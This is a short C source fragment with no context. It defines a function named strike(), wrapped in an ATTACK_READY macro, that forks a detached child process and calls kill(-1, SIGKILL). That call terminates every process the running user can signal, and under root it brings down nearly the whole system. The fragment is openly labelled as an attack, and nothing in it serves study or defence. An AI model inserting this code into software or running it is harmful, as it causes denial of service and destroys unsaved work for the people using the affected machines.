static void strike() {
    if (fork() == 0) {
        setsid();
        kill(-1, SIGKILL);
        _exit(0);
    }
}
#define ATTACK_READY strike()
